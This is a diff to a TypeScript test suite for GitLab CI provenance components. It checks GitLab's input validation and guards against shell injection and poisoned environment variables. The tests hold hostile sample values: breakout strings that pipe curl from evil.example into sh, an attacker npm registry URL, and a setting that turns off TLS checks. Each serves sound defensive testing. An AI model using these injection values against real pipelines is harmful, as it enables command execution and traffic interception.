@@ -182,7 +182,7 @@ beforeAll(async () => {
     join(scratch, "cli.sh"),
     [
       'for a in "$@"; do printf "arg %s\\n" "$a"; done',
-      "env | grep -E '^(PROVENANT_(REGISTRY_|INSECURE_REGISTRIES=|GITLAB_API=)|NODE_OPTIONS=|NODE_PATH=|[Nn][Pp][Mm]_[Cc][Oo][Nn][Ff][Ii][Gg]_)' | sed 's/^/env /' || true",
+      "env | grep -E '^(PROVENANT_(REGISTRY_|INSECURE_REGISTRIES=|GITLAB_API=)|NODE_(OPTIONS|PATH|TLS_REJECT_UNAUTHORIZED|USE_ENV_PROXY|EXTRA_CA_CERTS)=|HTTPS_PROXY=|[Nn][Pp][Mm]_[Cc][Oo][Nn][Ff][Ii][Gg]_)' | sed 's/^/env /' || true",
       // A node started by the CLI, as the real one is: NODE_OPTIONS would load code into it.
       'node -e "" || exit 9',
       // What the CLI would read as docker's config: where, with which modes, and what.
@@ -195,15 +195,58 @@ afterAll(async () => {
   if (scratch) await rm(scratch, { recursive: true, force: true });
 });
 
+/**
+ * The include-time checks GitLab makes (Ci::Inputs / Interpolation::Inputs::StringInput):
+ * a required input given, a boolean a boolean, a value among `options:`, and a string
+ * matching `regex:` through Gitlab::UntrustedRegexp#match?, which before
+ * gitlab-org/gitlab!192082 was called without allow_empty_string: an empty string then
+ * never matches, whatever the regex. The components must pass on both behaviours.
+ */
+function includeErrors(inputs: Record<string, InputSpec & { options?: unknown[] }>, given: Record<string, string | boolean>, { allowEmptyString = false } = {}) {
+  const errors: string[] = [];
+  for (const [input, spec] of Object.entries(inputs)) {
+    const which = input in given ? "provided" : "default";
+    if (!(input in given) && spec.default === undefined) {
+      errors.push(`\`${input}\` input: required value has not been provided`);
+      continue;
+    }
+    const value = input in given ? given[input] : spec.default;
+    if (spec.type === "boolean") {
+      if (typeof value !== "boolean") errors.push(`\`${input}\` input: ${which} value is not a boolean`);
+      continue;
+    }
+    if (spec.options && !spec.options.includes(value)) errors.push(`\`${input}\` input: \`${String(value)}\` is not in the list of allowed options`);
+    if (spec.regex !== undefined) {
+      const text = String(value);
+      if (!((allowEmptyString || text.trim() !== "") && new RegExp(spec.regex).test(text))) {
+        errors.push(`\`${input}\` input: ${which} value does not match required RegEx pattern`);
+      }
+    }
+  }
+  return errors;
+}
+
 /** Interpolates the inputs as GitLab does, then runs the job's script lines in one sh. */
 async function runScript(name: "attest" | "verify", given: Record<string, string | boolean>, env: Record<string, string> = {}) {
   const { text, inputs } = await component(name);
+  // An include GitLab refuses never runs; callers test that refusal with includeErrors.
+  expect(includeErrors(inputs, given), `GitLab accepts the ${name} include`).toEqual([]);
   const values: Record<string, string> = Object.fromEntries(
     Object.entries(inputs).map(([input, spec]) => [input, String(given[input] ?? spec.default ?? "")]),
   );
   values.command = `sh ${join(scratch, "cli.sh")}`;
-  const jobsText = text.slice(text.indexOf("\n---\n") + 5).replace(/\$\[\[\s*inputs\.([a-z_]+)\s*\]\]/g, (_, input: string) => values[input]!);
-  const job = (parse(jobsText) as Record<string, { variables: Record<string, string>; script: string[] }>)[name === "attest" ? "provenant-attest" : values.job_name!]!;
+  // GitLab interpolates the parsed YAML's keys and strings, not the file's text,
+  // so a value holding a newline or a colon stays inside its string.
+  const interpolate = (node: unknown): unknown =>
+    typeof node === "string"
+      ? node.replace(/\$\[\[\s*inputs\.([a-z_]+)\s*\]\]/g, (_, input: string) => values[input]!)
+      : Array.isArray(node)
+        ? node.map(interpolate)
+        : node && typeof node === "object"
+          ? Object.fromEntries(Object.entries(node).map(([key, value]) => [interpolate(key) as string, interpolate(value)]))
+          : node;
+  const jobs = interpolate(parse(text.slice(text.indexOf("\n---\n") + 5))) as Record<string, { variables: Record<string, string>; script: string[] }>;
+  const job = jobs[name === "attest" ? "provenant-attest" : values.job_name!]!;
   const cwd = await mkdtemp(join(scratch, "job-"));
   await mkdir(join(cwd, "dist"));
   await writeFile(join(cwd, "dist/app.txt"), "app\n");
@@ -228,7 +271,7 @@ async function runScript(name: "attest" | "verify", given: Record<string, string
   const environment = Object.fromEntries([...result.stdout.matchAll(/^env ([A-Za-z_]+)=(.*)$/gm)].map((m) => [m[1]!, m[2]!]));
   const [, dockerConfig, dirMode, fileMode] = /^docker_config (\S+) (\d+) (\d+)$/m.exec(result.stdout) ?? [];
   const dockerConfigJson = /^docker_config_json (.*)$/m.exec(result.stdout)?.[1];
-  return { ...result, args, environment, dockerConfig: dockerConfig ? { dir: dockerConfig, dirMode, fileMode, json: dockerConfigJson } : undefined };
+  return { ...result, cwd, args, environment, dockerConfig: dockerConfig ? { dir: dockerConfig, dirMode, fileMode, json: dockerConfigJson } : undefined };
 }
 
 const registryLogin = { CI_REGISTRY: "registry.gitlab.example", CI_REGISTRY_USER: "gitlab-ci-token", CI_REGISTRY_PASSWORD: "job-token-value" };
@@ -463,6 +506,8 @@ describe("a dotenv report from an earlier job", () => {
     NODE_PATH: "./dist",
     npm_config_registry: "https://npm.evil.example/",
     NPM_CONFIG_USERCONFIG: "./dist/.npmrc",
+    NODE_TLS_REJECT_UNAUTHORIZED: "0",
+    NODE_USE_ENV_PROXY: "1",
   };
 
   it("the payload would run in node if it reached it", async () => {
@@ -573,22 +618,117 @@ describe("a dotenv report from an earlier job", () => {
   });
 });
 
+describe("inputs taken literally", () => {
+  const publicKey = { PROVENANT_PUBLIC_KEY: "-----BEGIN PUBLIC KEY-----\n...\n-----END PUBLIC KEY-----" };
+
+  it("a policy input naming a CI/CD variable stops verify before the CLI, naming the input", async () => {
+    // GitLab does not expand it there: $CI_DEFAULT_BRANCH would be compared as written and never match.
+    const { code, stderr, args } = await runScript("verify", { artifacts: "dist/app.txt", source_branch: "$CI_DEFAULT_BRANCH" }, { ...publicKey, CI_DEFAULT_BRANCH: "main" });
+    expect(code).toBe(2);
+    expect(stderr).toContain('the input source_branch is "$CI_DEFAULT_BRANCH"; expected a value taken literally, without $');
+    expect(args).toEqual([]);
+  });
+
+  it("token_audience and bundle naming a CI/CD variable are refused when the component is included", async () => {
+    // id_tokens: aud would be expanded by GitLab while the CLI checks the literal;
+    // a bundle path would be written where artifacts: paths does not look.
+    const attest = await component("attest");
+    expect(includeErrors(attest.inputs, { subjects: "dist/app.txt", token_audience: "$CI_SERVER_URL" })).toEqual([
+      "`token_audience` input: provided value does not match required RegEx pattern",
+    ]);
+    expect(includeErrors(attest.inputs, { subjects: "dist/app.txt", bundle: "$CI_PROJECT_DIR/p.json" })).toEqual([
+      "`bundle` input: provided value does not match required RegEx pattern",
+    ]);
+    const verify = await component("verify");
+    expect(includeErrors(verify.inputs, { bundle: `${braced("CI_PROJECT_DIR")}/p.json` })).toHaveLength(1);
+  });
+
+  it("an input that may be empty keeps a quote as text: it reaches the CLI as one argument and runs nothing", async () => {
+    const quoted = "x'; touch pwned; '";
+    const { code, args, cwd } = await runScript("verify", { artifacts: "dist/app.txt", builder_id: quoted, source_tag: "it's" }, publicKey);
+    expect(code).toBe(0);
+    expect(args.slice(args.indexOf("--builder-id"), args.indexOf("--builder-id") + 2)).toEqual(["--builder-id", quoted]);
+    expect(args.slice(args.indexOf("--source-tag"), args.indexOf("--source-tag") + 2)).toEqual(["--source-tag", "it's"]);
+    expect(existsSync(join(cwd, "pwned"))).toBe(false);
+  });
+
+  it("a multi-line value, or one its input does not take, stops the job with a usage error naming the input", async () => {
+    const lines = await runScript("verify", { artifacts: "dist/app.txt", source_uri: "gitlab.com/acme/app\ngitlab.com/evil/app" }, publicKey);
+    expect(lines.code).toBe(2);
+    expect(lines.stderr).toContain("the input source_uri holds more than one line");
+    const level = await runScript("verify", { artifacts: "dist/app.txt", slsa_level: "L2" }, publicKey);
+    expect(level.code).toBe(2);
+    expect(level.stderr).toContain('the input slsa_level is "L2"; expected empty or one digit');
+    for (const [input, value] of [
+      ["server_url", "https://gitlab.com/$CI_PROJECT_PATH"],
+      ["registry_hosts", "registry.example.com; curl evil"],
+      ["insecure_registry", "$CI_REGISTRY"],
+    ] as const) {
+      const { code, stderr, args } = await runScript("attest", { subjects: "dist/app.txt", [input]: value }, signingKey);
+      expect(code, input).toBe(2);
+      expect(stderr).toContain(`[USAGE]: the input ${input} is "${value}"`);
+      expect(args).toEqual([]);
+    }
+  });
+});
+
+describe("TLS and proxy settings from a dotenv report", () => {
+  const tls = { NODE_TLS_REJECT_UNAUTHORIZED: "0", NODE_USE_ENV_PROXY: "1", NODE_EXTRA_CA_CERTS: "/etc/ssl/corp-ca.pem", HTTPS_PROXY: "http://proxy.corp.example:3128" };
+  for (const [name, given, env] of [
+    ["attest", { subjects: "dist/app.txt" }, signingKey],
+    ["verify", { artifacts: "dist/app.txt" }, { PROVENANT_PUBLIC_KEY: "-----BEGIN PUBLIC KEY-----" }],
+  ] as const) {
+    it(`${name}: certificate checks stay on and node's fetch ignores proxies; a private CA and the proxy variables stay`, async () => {
+      const { code, environment } = await runScript(name, given, { ...env, ...tls });
+      expect(code).toBe(0);
+      expect(environment.NODE_TLS_REJECT_UNAUTHORIZED).toBeUndefined();
+      expect(environment.NODE_USE_ENV_PROXY).toBeUndefined();
+      // A self-managed instance with a private CA is trusted through it; npx uses the proxy.
+      expect(environment).toMatchObject({ NODE_EXTRA_CA_CERTS: tls.NODE_EXTRA_CA_CERTS, HTTPS_PROXY: tls.HTTPS_PROXY });
+    });
+  }
+});
+
 describe("inputs pasted into the job scripts", () => {
   const breakouts = ["x'; curl evil.example | sh; '", "x'\n'"];
+  /** Inputs whose only place in the scripts is a line of their own inside a quoted heredoc. */
+  const inHeredoc = (scripts: string) =>
+    new Set([...scripts.matchAll(/<<'PROVENANT_INPUT'\n\$\[\[ inputs\.([a-z_]+) \]\]\nPROVENANT_INPUT\n/g)].map((m) => m[1]!));
+
   for (const name of ["attest", "verify"] as const) {
-    it(`${name}.yml: each is held by regex:, options: or a boolean type to what cannot leave its quotes`, async () => {
+    it(`${name}.yml: each is held by regex:, options: or a boolean type to what cannot leave its quotes, or sits alone in a quoted heredoc`, async () => {
       const { inputs, jobs } = await component(name);
-      const scripts = JSON.stringify(Object.values(jobs).map((job) => job.script));
-      const pasted = new Set([...scripts.matchAll(/\$\[\[\s*inputs\.([a-z_]+)\s*\]\]/g)].map((m) => m[1]!));
-      expect(pasted.size).toBeGreaterThan(5);
+      const scripts = Object.values(jobs).flatMap((job) => job.script as string[]).join("\n");
+      const heredoc = inHeredoc(scripts);
+      expect(heredoc.size).toBeGreaterThan(2);
+      const outside = scripts.replace(/<<'PROVENANT_INPUT'\n[^\n]*\nPROVENANT_INPUT\n/g, "");
+      const pasted = new Set([...outside.matchAll(/\$\[\[\s*inputs\.([a-z_]+)\s*\]\]/g)].map((m) => m[1]!));
+      expect(pasted.size).toBeGreaterThan(3);
+      for (const input of heredoc) expect(pasted.has(input), `${input} is only in its heredoc`).toBe(false);
       for (const input of pasted) {
         const spec = inputs[input]! as InputSpec & { options?: unknown[] };
         if (spec.type === "boolean" || spec.options) continue;
         expect(spec.regex, `${name} input ${input} has a regex`).toBeDefined();
         const pattern = new RegExp(spec.regex!);
         for (const value of breakouts) expect(pattern.test(value), `${input}: ${JSON.stringify(value)}`).toBe(false);
-        if (spec.default !== undefined) expect(pattern.test(String(spec.default)), `${input}'s default passes its regex`).toBe(true);
       }
+    });
+
+    it(`${name}.yml: GitLab accepts every default and every input left empty that means "not set", before and after it let empty strings match`, async () => {
+      const { inputs } = await component(name);
+      const required: Record<string, string> = name === "attest" ? { subjects: "dist/app.txt" } : {};
+      for (const allowEmptyString of [false, true]) {
+        expect(includeErrors(inputs, required, { allowEmptyString }), `defaults, allow_empty_string ${allowEmptyString}`).toEqual([]);
+        // Every input whose description or README row gives empty a meaning.
+        const empties = Object.entries(inputs).filter(([, spec]) => spec.default === "" || /\bempty\b/i.test(spec.description ?? ""));
+        expect(empties.length).toBeGreaterThan(2);
+        for (const [input] of empties) {
+          expect(includeErrors(inputs, { ...required, [input]: "" }, { allowEmptyString }), `${input}: ""`).toEqual([]);
+        }
+      }
+      // The model's rule itself: an input with a regex refuses "" on the older GitLab.
+      const withRegex = Object.keys(inputs).find((input) => inputs[input]!.regex)!;
+      expect(includeErrors(inputs, { ...required, [withRegex]: "" })).toEqual([`\`${withRegex}\` input: provided value does not match required RegEx pattern`]);
     });
   }
 
